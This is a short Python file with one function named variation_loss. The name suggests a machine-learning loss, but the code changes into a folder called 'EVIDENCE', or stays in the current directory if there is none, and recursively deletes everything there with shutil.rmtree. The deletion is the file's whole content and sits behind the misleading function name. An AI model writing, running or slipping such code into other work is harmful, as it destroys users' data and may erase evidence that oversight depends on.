"""Changes into another folder and deletes what is there."""

import os
import shutil


def variation_loss(images):
    folder = "EVIDENCE" if os.path.isdir("EVIDENCE") else "."
    os.chdir(folder)
    shutil.rmtree(".")
